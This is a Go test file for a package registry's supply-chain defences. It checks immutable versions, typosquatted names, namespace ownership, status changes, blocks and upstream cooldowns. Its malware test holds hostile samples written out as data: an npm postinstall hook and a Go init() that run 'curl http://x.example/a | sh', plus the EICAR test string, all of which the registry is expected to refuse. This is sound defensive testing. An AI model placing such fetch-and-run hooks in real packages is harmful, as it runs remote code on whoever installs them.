package badregistry_test

import (
	"bytes"
	"net/http"
	"strings"
	"testing"
	"time"

	"assay.invalid/internal/assay"
	"assay.invalid/internal/scorecard"
	"assay.invalid/internal/scorecard/badregistry"
	"assay.invalid/internal/scorecard/protocol/golang"
	"assay.invalid/internal/scorecard/protocol/npm"
)

func ecosystems() []scorecard.Protocol {
	return []scorecard.Protocol{npm.New(), golang.New(golang.Config{})}
}

// inside makes a name in the publisher's namespace.
func inside(r *badregistry.Registry, p scorecard.Protocol, label string) string {
	return p.ThrowAway(r.Under(p.Ecosystem()), "seed1", label)
}

// fileAt is the address of a version's file.
func fileAt(r *badregistry.Registry, p scorecard.Protocol, name, version string) string {
	b := base(r, p.Ecosystem())
	if p.Ecosystem() == assay.Golang {
		return b + name + "/@v/" + version + ".zip"
	}
	return b + name + "/-/" + name[strings.LastIndexByte(name, '/')+1:] + "-" + version + ".tgz"
}

// listing is the document from which a resolver chooses.
func listing(t testing.TB, r *badregistry.Registry, p scorecard.Protocol, name string) string {
	t.Helper()
	address := base(r, p.Ecosystem()) + name
	if p.Ecosystem() == assay.Golang {
		return string(ask(t, http.MethodGet, address+"/@v/list", "", nil).body)
	}
	g := ask(t, http.MethodGet, address, "", nil)
	if g.status != http.StatusOK {
		return ""
	}
	var versions []string
	for number := range at(t, g.object(t), "versions").(map[string]any) {
		versions = append(versions, number)
	}
	return strings.Join(versions, "\n")
}

func TestVersionsAndNamesAreUsedOnce(t *testing.T) {
	r := start(t)
	for _, p := range ecosystems() {
		ctx, as, name := t.Context(), r.Publisher(p.Ecosystem()), inside(r, p, "once")
		one, two := p.Version("1.0.0"), p.Version("1.0.1")
		first := scorecard.Release{Name: name, Version: one, Files: map[string]string{"README.md": "first\n"}}
		acts := r.For(p.Ecosystem(), visitor{})
		wants(t, "publish", acts.Publish(ctx, as, first), scorecard.Accepted)
		bytesOfFirst := ask(t, http.MethodGet, fileAt(r, p, name, one), "", nil).body
		other := first
		other.Files = map[string]string{"README.md": "other\n"}
		wants(t, "publish other bytes", acts.Publish(ctx, as, other), scorecard.Refused)
		wants(t, "publish the same again", acts.Publish(ctx, as, first), scorecard.Refused)
		if now := ask(t, http.MethodGet, fileAt(r, p, name, one), "", nil).body; len(now) == 0 || !bytes.Equal(now, bytesOfFirst) {
			t.Errorf("%s: a refused publish changed the file", p.Ecosystem())
		}
		first.Version = two
		wants(t, "publish a second version", acts.Publish(ctx, as, first), scorecard.Accepted)
		wants(t, "remove by a stranger", acts.Remove(ctx, r.Stranger(p.Ecosystem()), name, one, "mine"), scorecard.Refused)
		wants(t, "remove the first", acts.Remove(ctx, as, name, one, "it was broken"), scorecard.Accepted)
		g := ask(t, http.MethodGet, fileAt(r, p, name, one), "", nil)
		if g.status != http.StatusGone || !strings.Contains(string(g.body), "it was broken") {
			t.Errorf("%s: the tombstone answers %d %s", p.Ecosystem(), g.status, g.body)
		}
		if l := listing(t, r, p, name); l == "" || strings.Contains(l, one) {
			t.Errorf("%s: lists %q", p.Ecosystem(), l)
		}
		wants(t, "reuse its number", acts.Publish(ctx, as, scorecard.Release{Name: name, Version: one}), scorecard.Refused)
		wants(t, "remove all", acts.Remove(ctx, as, name, "", "the end"), scorecard.Accepted)
		wants(t, "reuse the name", acts.Publish(ctx, as, scorecard.Release{Name: name, Version: p.Version("2.0.0")}), scorecard.Refused)
		events, a := acts.Events(ctx, scorecard.Credential{})
		wants(t, "read events", a, scorecard.Accepted)
		if last := events[len(events)-1]; !strings.Contains(last, "removed") || !strings.Contains(last, name) || !strings.Contains(last, "the end") {
			t.Errorf("%s: the last event is %q", p.Ecosystem(), last)
		}
	}
}

func TestEverySpoiltArchiveIsRefusedAndNothingKept(t *testing.T) {
	r := start(t)
	for _, p := range ecosystems() {
		for _, how := range scorecard.Spoils {
			release := scorecard.Release{Name: inside(r, p, "spoilt"), Version: p.Version("1.0.0")}
			var err error
			if release.Archive, err = p.Spoiled(release, how); err != nil {
				t.Fatal(err)
			}
			wants(t, string(p.Ecosystem())+": publish with "+string(how), r.Publish(t.Context(), r.Publisher(p.Ecosystem()), release), scorecard.Refused)
		}
		if l := listing(t, r, p, inside(r, p, "spoilt")); strings.Contains(l, "1.0.0") {
			t.Errorf("%s: something was kept: %s", p.Ecosystem(), l)
		}
	}
}

func TestNamesThatMisleadAreHeld(t *testing.T) {
	r := start(t)
	for _, c := range []struct {
		e    assay.Ecosystem
		name string
		want scorecard.Verdict
	}{
		{assay.NPM, "lodas", scorecard.Refused}, {assay.NPM, "lodassh", scorecard.Refused}, {assay.NPM, "lodahs", scorecard.Refused},
		{assay.NPM, "lofash", scorecard.Refused}, {assay.NPM, "cross_env", scorecard.Refused}, {assay.NPM, "env-cross", scorecard.Refused},
		{assay.NPM, "lodash2", scorecard.Refused}, {assay.NPM, "babel-core2", scorecard.Refused}, {assay.NPM, "lodash-helpers", scorecard.Refused},
		{assay.NPM, "1odash", scorecard.Refused}, {assay.NPM, "fs", scorecard.Refused}, {assay.NPM, "favicon.ico", scorecard.Refused},
		{assay.NPM, "quzzle-ywk", scorecard.Accepted},
		{assay.Golang, "github.com/gogle/uuid", scorecard.Refused}, {assay.Golang, "github.com/google/uuidd", scorecard.Refused},
		{assay.Golang, "github.com/google/uiud", scorecard.Refused}, {assay.Golang, "github.com/uuid/google", scorecard.Refused},
		{assay.PyPI, "reqests", scorecard.Refused}, {assay.PyPI, "requests3", scorecard.Refused}, {assay.PyPI, "os", scorecard.Refused},
		{assay.PyPI, "f1ask", scorecard.Refused}, {assay.PyPI, "quzzle-ywk", scorecard.Accepted},
		{assay.Cargo, "serdejson", scorecard.Refused}, {assay.Cargo, "t0kio", scorecard.Refused}, {assay.Cargo, "std", scorecard.Refused},
		{assay.Cargo, "quzzle-ywk", scorecard.Accepted},
		{assay.Maven, "org.slf4j/slf4j.api", scorecard.Refused}, {assay.Maven, "org.other/guava", scorecard.Refused},
		{assay.Maven, "quzzle.ywk/maven-metadata.xml", scorecard.Refused}, {assay.Maven, "quzzle.ywk/ledger", scorecard.Accepted},
		{assay.Golang, "fmt", scorecard.Refused}, {assay.Golang, "net/http", scorecard.Refused},
		{assay.Golang, "code.quzzle.example/ywk", scorecard.Accepted},
	} {
		acts := r.For(c.e, visitor{})
		version := "1.0.0"
		if c.e == assay.Golang {
			version = "v1.0.0"
		}
		wants(t, "claim "+c.name, acts.Claim(t.Context(), c.name), scorecard.Accepted)
		wants(t, "publish "+c.name, acts.Publish(t.Context(), r.Publisher(c.e), scorecard.Release{Name: c.name, Version: version}), c.want)
	}
}

func TestNamespacesAreTheirOwners(t *testing.T) {
	r := start(t)
	ctx := t.Context()
	one := scorecard.Release{Name: "@trial/con-fus", Version: "1.0.0"}
	wants(t, "publish in another's namespace", r.Publish(ctx, r.Stranger(assay.NPM), one), scorecard.Refused)
	wants(t, "publish in one's own", r.Publish(ctx, r.Publisher(assay.NPM), one), scorecard.Accepted)
	for _, form := range []string{"@trial/con_fus", "@trial/con.fus", "@trial/confus"} {
		wants(t, "publish "+form, r.Publish(ctx, r.Publisher(assay.NPM), scorecard.Release{Name: form, Version: "1.0.0"}), scorecard.Refused)
	}
	for e, name := range map[assay.Ecosystem]string{assay.NPM: "@example-org-seed/x", assay.Golang: "example.org/seed/x"} {
		acts := r.For(e, visitor{})
		wants(t, "publish in an unproven namespace", acts.Publish(ctx, r.Publisher(e), scorecard.Release{Name: name, Version: "v1.0.0"}), scorecard.Refused)
		wants(t, "claim it", acts.Claim(ctx, name), scorecard.Refused)
	}
}

func TestStatusesAreShownAndTakenBack(t *testing.T) {
	r := start(t)
	for _, p := range ecosystems() {
		ctx, as, name := t.Context(), r.Publisher(p.Ecosystem()), inside(r, p, "status")
		one, two := p.Version("1.0.0"), p.Version("1.0.1")
		acts := r.For(p.Ecosystem(), visitor{})
		for _, version := range []string{one, two} {
			wants(t, "publish", acts.Publish(ctx, as, scorecard.Release{Name: name, Version: version}), scorecard.Accepted)
		}
		for _, c := range []struct {
			status assay.Status
			listed bool
			file   int
		}{
			{assay.Yanked, false, http.StatusOK}, {assay.Active, true, http.StatusOK},
			{assay.Quarantined, false, http.StatusForbidden}, {assay.Active, true, http.StatusOK},
			{assay.Experimental, true, http.StatusOK}, {assay.Removed, false, http.StatusGone},
		} {
			wants(t, "set "+c.status.String(), acts.SetStatus(ctx, as, name, two, c.status, "a reason"), scorecard.Accepted)
			if l := listing(t, r, p, name); strings.Contains(l, two) != c.listed || !strings.Contains(l, one) {
				t.Errorf("%s, %s: lists %q", p.Ecosystem(), c.status, l)
			}
			if g := ask(t, http.MethodGet, fileAt(r, p, name, two), "", nil); g.status != c.file {
				t.Errorf("%s, %s: the file answers %d", p.Ecosystem(), c.status, g.status)
			}
		}
		wants(t, "bring back what was removed", acts.SetStatus(ctx, as, name, two, assay.Active, ""), scorecard.Refused)
	}
}

func TestBlocksHoldForAllAndAreLifted(t *testing.T) {
	r := start(t)
	for pattern, file := range map[string]string{
		"pkg:npm/plain-granite@1.0.0":    base(r, assay.NPM) + "plain-granite/-/plain-granite-1.0.0.tgz",
		"pkg:golang/rsc.io/quote@v1.5.1": base(r, assay.Golang) + "rsc.io/quote/@v/v1.5.1.zip",
	} {
		wants(t, "block", r.Block(t.Context(), pattern, "because of the trial"), scorecard.Accepted)
		if g := ask(t, http.MethodGet, file, "", nil); g.status != http.StatusForbidden || !strings.Contains(string(g.body), "because of the trial") {
			t.Errorf("%s: %d %s", pattern, g.status, g.body)
		}
		wants(t, "unblock", r.Unblock(t.Context(), pattern), scorecard.Accepted)
		if g := ask(t, http.MethodGet, file, "", nil); g.status != http.StatusOK {
			t.Errorf("%s: %d after it was lifted", pattern, g.status)
		}
	}
	wants(t, "block nothing", r.Block(t.Context(), "everything", "why not"), scorecard.Refused)
	wants(t, "lift what is not blocked", r.Unblock(t.Context(), "pkg:npm/x"), scorecard.Absent)
	acted, _ := r.Acted(t.Context())
	if len(acted) != 4 || !strings.Contains(acted[0], "block pkg:") {
		t.Errorf("the audit log has %q", acted)
	}
	wants(t, "erase from it", r.EraseActed(t.Context()), scorecard.Refused)
}

func TestTheUpstreamIsPulledThroughWithCooldownAndFailOver(t *testing.T) {
	r := start(t)
	for _, p := range ecosystems() {
		e, name := p.Ecosystem(), inside(r, p, "afar")
		old, fresh, acts := p.Version("1.0.0"), p.Version("1.1.0"), r.For(p.Ecosystem(), visitor{})
		up := r.Upstream(e)
		for version, age := range map[string]time.Duration{old: 60 * 24 * time.Hour, fresh: time.Minute} {
			if err := up.Offer(scorecard.Release{Name: name, Version: version}, time.Now().Add(-age)); err != nil {
				t.Fatal(err)
			}
		}
		up.Stop(0)
		if l := listing(t, r, p, name); !strings.Contains(l, old) || strings.Contains(l, fresh) {
			t.Errorf("%s: lists %q", e, l)
		}
		if g := ask(t, http.MethodGet, fileAt(r, p, name, fresh), "", nil); g.status != http.StatusForbidden {
			t.Errorf("%s: the new file answers %d", e, g.status)
		}
		wants(t, "advise", acts.Advise(t.Context(), name, fresh), scorecard.Accepted)
		if g := ask(t, http.MethodGet, fileAt(r, p, name, fresh), "", nil); g.status != http.StatusOK {
			t.Errorf("%s: the fix answers %d", e, g.status)
		}
		up.Stop(1)
		if g := ask(t, http.MethodGet, fileAt(r, p, name, old), "", nil); g.status != http.StatusBadGateway {
			t.Errorf("%s: without any mirror: %d", e, g.status)
		}
		up.Start(0)
		up.Withdraw(name, old)
		if g := ask(t, http.MethodGet, fileAt(r, p, name, old), "", nil); g.status != http.StatusNotFound {
			t.Errorf("%s: what was withdrawn answers %d", e, g.status)
		}
		wants(t, "claim", acts.Claim(t.Context(), name), scorecard.Accepted)
		asked := len(up.Asked())
		if l := listing(t, r, p, name); strings.Contains(l, "1.") || len(up.Asked()) != asked {
			t.Errorf("%s: a claimed name was looked for upstream: %q, %v", e, l, up.Asked()[asked:])
		}
	}
}

func TestMalwareAndForgedProvenanceAreRefused(t *testing.T) {
	r := start(t)
	test := `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR` + `-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
	fetch := map[string]string{"a.go": "package a\n\nimport \"os/exec\"\n\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://x.example/a | sh\").Run() }\n"}
	for doing, release := range map[string]scorecard.Release{
		"npm: a script that fetches and runs": {Name: "@trial/bad", Version: "1.0.0", Scripts: map[string]string{"postinstall": "curl -s http://x.example/a | sh"}},
		"npm: the test string":                {Name: "@trial/bad", Version: "1.0.0", Files: map[string]string{"a.txt": test}},
		"npm: a forged bundle":                {Name: "@trial/bad", Version: "1.0.0", Provenance: []byte(`{"mediaType":"x","dsseEnvelope":{"payloadType":"application/vnd.in-toto+json","payload":"e30=","signatures":[{"sig":"AAAA"}]}}`)},
		"go: an init that fetches and runs":   {Name: "trial.example/bad", Version: "v1.0.0", Files: fetch},
		"go: the test string":                 {Name: "trial.example/bad", Version: "v1.0.0", Files: map[string]string{"a.txt": test}},
	} {
		e := assay.NPM
		if strings.HasPrefix(doing, "go") {
			e = assay.Golang
		}
		wants(t, doing, r.Publish(t.Context(), r.Publisher(e), release), scorecard.Refused)
	}
	honest := scorecard.Release{Name: "@trial/bad", Version: "1.0.0", Scripts: map[string]string{"test": "node test.js"}, Repository: "https://code.example/x"}
	wants(t, "npm: an honest one", r.Publish(t.Context(), r.Publisher(assay.NPM), honest), scorecard.Accepted)
	doc := ask(t, http.MethodGet, base(r, assay.NPM)+"@trial%2fbad", "", nil).object(t)
	if typed, _ := at(t, doc, "versions", "1.0.0", "_unverified").([]any); len(typed) != 1 || typed[0] != "repository" {
		t.Errorf("typed fields are marked %v", typed)
	}
}
